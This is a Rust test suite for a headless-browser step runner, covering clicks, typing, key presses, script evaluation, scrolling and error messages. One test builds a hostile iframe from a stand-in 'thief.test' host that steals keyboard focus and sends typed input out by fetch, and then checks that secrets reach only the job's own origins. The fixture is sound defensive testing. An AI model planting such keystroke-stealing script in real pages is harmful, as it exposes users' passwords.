//! The steps in a page.

use std::time::Duration;

use url::Url;

use super::site::{Answer, Site};
use super::{Stage, config, script_of};
use crate::model::{Action, RenderConfig, SecretText};
use crate::render::{Awaited, PageScript, RenderError, Step, Typed};

fn steps(actions: Vec<Action>, wait_timeout_ms: u32) -> PageScript {
    script_of(&RenderConfig {
        wait_timeout_ms,
        actions,
        ..config()
    })
}

fn click(selector: &str) -> Action {
    Action::Click(selector.into())
}

fn type_into(selector: &str, text: &str) -> Action {
    Action::Type {
        selector: selector.into(),
        text: SecretText::Plain(text.into()),
    }
}

async fn site() -> Site {
    Site::start(|path, _| match path {
        "/form" => Answer::html(
            "<div style='height:3000px'></div><button id=b onclick='log(event.isTrusted + \" click\")'>b</button>
             <button id=late style='display:none' onclick='log(\"late click\")'>l</button>
             <input id=i oninput='log(this.value)'><form id=f onsubmit='log(\"submitted \" + q.value); return false'><input id=q></form>
             <a id=a href=/next>next</a><form action=/next><input id=go></form><ol></ol><div id=host></div>
             <script>
               const log = (text) => document.querySelector('ol').insertAdjacentHTML('beforeend', '<li>' + text);
               setTimeout(() => late.style.display = '', 300);
               i.addEventListener('keydown', (e) => log('down ' + e.code));
               host.attachShadow({mode: 'open'}).innerHTML = '<button id=s>s</button>';
               host.shadowRoot.querySelector('#s').onclick = () => log('shadow click');
             </script>",
        ),
        "/next" | "/next?" => Answer::html("<h1>next</h1>").late(Duration::from_millis(300)),
        "/covered" => Answer::html(
            "<button id=b>b</button><button id=off disabled>o</button><p id=none style='display:none'>n</p>
             <div style='position:fixed;inset:0'></div>",
        ),
        "/feed" => Answer::html(
            "<div id=feed></div><div id=end style='height:10px'></div><script>
             let n = 0;
             const more = () => fetch('/more').then(() => {
               for (let i = 0; i < 20; i++) feed.insertAdjacentHTML('beforeend', '<p style=\"height:100px\">' + (++n));
             });
             new IntersectionObserver((entries) => { if (entries[0].isIntersecting && n < 100) more(); }).observe(end);
             </script>",
        ),
        "/inner-feed" => Answer::html(
            "<style>html, body {height: 100%; margin: 0; overflow: hidden}</style>
             <div id=box style='height:100%;overflow-y:auto'></div><script>
             let n = 0;
             const more = () => { for (let i = 0; i < 20; i++) box.insertAdjacentHTML('beforeend', '<p style=\"height:100px\">' + (++n)); };
             more();
             box.onscroll = () => { if (n < 60 && box.scrollTop + box.clientHeight > box.scrollHeight - 50) more(); };
             </script>",
        ),
        "/endless" => Answer::html(
            "<script>setInterval(() => document.body.insertAdjacentHTML('beforeend', '<p style=\"height:900px\">x'), 50)</script><p>x</p>",
        ),
        "/more" => Answer::html("x").late(Duration::from_millis(100)),
        _ => Answer::html("<p>x</p>"),
    })
    .await
}

#[tokio::test]
async fn each_step_does_what_a_person_would() {
    let site = site().await;
    let stage = Stage::open(&site).await;
    let check = async |path: &str, actions: Vec<Action>, part: &str| {
        let page = stage.render(path, &steps(actions.clone(), 10_000)).await;
        assert!(page.html.contains(part), "{actions:?}: {part} in {}", page.html);
    };
    check(
        "/form",
        vec![click("#b"), click("#late")],
        "<ol><li>true click</li><li>late click</li></ol>",
    )
    .await;
    check("/form", vec![click("#s")], "<li>shadow click</li>").await;
    let typed = "<li>down KeyA</li><li>a</li><li>down KeyB</li><li>aB</li><li>aBß</li>";
    check("/form", vec![type_into("#i", "aBß")], typed).await;
    check("/form", vec![type_into("#q", "shoes\n")], "<li>submitted shoes</li>").await;
    check(
        "/form",
        vec![type_into("#q", "x"), Action::Press("Enter".into())],
        "<li>submitted x</li>",
    )
    .await;
    check("/form", vec![type_into("#go", "x\n")], "<h1>next</h1>").await;
    check("/form", vec![click("#a")], "<h1>next</h1>").await;
    check(
        "/form",
        vec![click("#a"), Action::WaitFor("h1".into())],
        "<h1>next</h1>",
    )
    .await;
    check(
        "/form",
        vec![Action::Evaluate("log('evaluated')".into())],
        "<li>evaluated</li>",
    )
    .await;
    let promise = "const wait = new Promise((done) => setTimeout(done, 200)); await wait; log('awaited')";
    check("/form", vec![Action::Evaluate(promise.into())], "<li>awaited</li>").await;
    check(
        "/form",
        vec![Action::Evaluate("location.href = '/next'".into())],
        "<h1>next</h1>",
    )
    .await;
    check(
        "/form",
        vec![
            Action::WaitMs(400),
            Action::Evaluate("log(late.style.display === '')".into()),
        ],
        "<li>true</li>",
    )
    .await;
    check("/feed", vec![Action::ScrollToEnd], ">100</p>").await;
    check("/inner-feed", vec![Action::ScrollToEnd], ">60</p>").await;
    stage.close().await;
}

#[tokio::test]
async fn a_step_that_cannot_be_taken_says_which_and_why() {
    let site = site().await;
    let stage = Stage::open(&site).await;
    let held_up = async |path: &str, action: Action, key: &'static str, reason: &str| {
        let error = stage.fail(path, &steps(vec![Action::WaitMs(1), action], 1_500)).await;
        let waited_for = Awaited::Action {
            index: 1,
            action: key,
            held_up: reason.into(),
        };
        let limit = Duration::from_millis(1_500);
        assert_eq!(error, RenderError::Timeout { waited_for, limit });
    };
    held_up("/form", click("#missing"), "click", "no element matches `#missing`").await;
    held_up(
        "/covered",
        click("#b"),
        "click",
        "the element that matches `#b` is covered by <div>",
    )
    .await;
    held_up(
        "/covered",
        click("#off"),
        "click",
        "the element that matches `#off` is disabled",
    )
    .await;
    held_up(
        "/covered",
        click("#none"),
        "click",
        "the element that matches `#none` is not visible",
    )
    .await;
    held_up(
        "/form",
        type_into("ol", "x"),
        "type",
        "the element that matches `ol` takes no text",
    )
    .await;
    held_up(
        "/form",
        Action::WaitFor(".x".into()),
        "wait_for",
        "no element matches `.x`",
    )
    .await;
    let too_long = "the steps wait longer than they may take together";
    held_up("/form", Action::WaitMs(1_600), "wait_ms", too_long).await;
    held_up(
        "/form",
        Action::Evaluate("for (;;);".into()),
        "evaluate",
        "the script has not ended",
    )
    .await;
    let error = stage.fail("/endless", &steps(vec![Action::ScrollToEnd], 3_000)).await;
    assert!(
        error
            .to_string()
            .contains("render_config.actions[0] (scroll): the page still grows"),
        "{error}"
    );

    let failed = async |action: Action, key: &'static str, reason: &str| match stage
        .fail("/form", &steps(vec![action], 3_000))
        .await
    {
        RenderError::Action {
            index: 0,
            action,
            reason: said,
        } => {
            assert_eq!(action, key);
            assert!(said.contains(reason), "{said}");
        }
        other => panic!("{other:?}"),
    };
    failed(click("a["), "click", "not a valid selector").await;
    failed(
        Action::Press("Return".into()),
        "press",
        "there is no key 'Return'; take a name such as Enter",
    )
    .await;
    failed(
        Action::Evaluate("throw new Error('no')".into()),
        "evaluate",
        "Error: no",
    )
    .await;
    failed(Action::Evaluate("throw 'plain'".into()), "evaluate", "plain").await;
    failed(
        Action::Evaluate("Promise.reject(new TypeError('late'))".into()),
        "evaluate",
        "TypeError: late",
    )
    .await;
    failed(Action::Evaluate("if (".into()), "evaluate", "SyntaxError").await;
    stage.close().await;
}

#[tokio::test]
async fn a_secret_is_typed_into_the_jobs_own_pages_only() {
    // What the thief's frame gets of the keyboard, it passes on.
    let site = Site::start(|path, _| match path {
        "/login" => Answer::html(
            "<input id=pin oninput='seen.textContent = pin.value'><div contenteditable id=note></div><p id=seen></p>
             <button id=b>b</button><iframe id=frame src='http://thief.test/thief'></iframe>",
        ),
        "/thief" => Answer::html(
            "<input id=i oninput='fetch(\"/got?\" + i.value)'><script>setInterval(() => i.focus(), 5)</script>",
        ),
        _ => Answer::html("<p>x</p>"),
    })
    .await;
    let stage = Stage::open(&site).await;
    let typed = |own: &str, selector: &str, wait_timeout_ms: u32| PageScript {
        own_origins: vec![Url::parse(own).unwrap().origin()],
        steps: vec![Step::Type {
            selector: selector.into(),
            text: Typed {
                text: "hunter2-'ß".into(),
                is_secret: true,
            },
        }],
        ..steps(Vec::new(), wait_timeout_ms)
    };
    let own = "http://site.test/";
    for (selector, expected) in [
        ("#pin", "<p id=\"seen\">hunter2-'ß</p>"),
        ("#note", ">hunter2-'ß</div>"),
    ] {
        let page = stage.render("/login", &typed(own, selector, 20_000)).await;
        assert!(page.html.contains(expected), "{}", page.html);
    }
    for other in ["http://other.example/", "https://site.test/"] {
        match stage.fail("/login", &typed(other, "#pin", 20_000)).await {
            RenderError::Action {
                index: 0,
                action: "type",
                reason,
            } => {
                assert!(reason.contains("none of the job's own origins"), "{reason}");
            }
            error => panic!("{error}"),
        }
    }
    for mute in ["#frame", "#b"] {
        let error = stage.fail("/login", &typed(own, mute, 5_000)).await;
        assert!(
            error.to_string().contains(&format!("`{mute}` takes no text")),
            "{error}"
        );
    }
    let got: Vec<_> = site
        .requests()
        .into_iter()
        .filter(|request| request.contains("/got"))
        .collect();
    assert!(got.is_empty(), "{got:?}");
    stage.close().await;
}
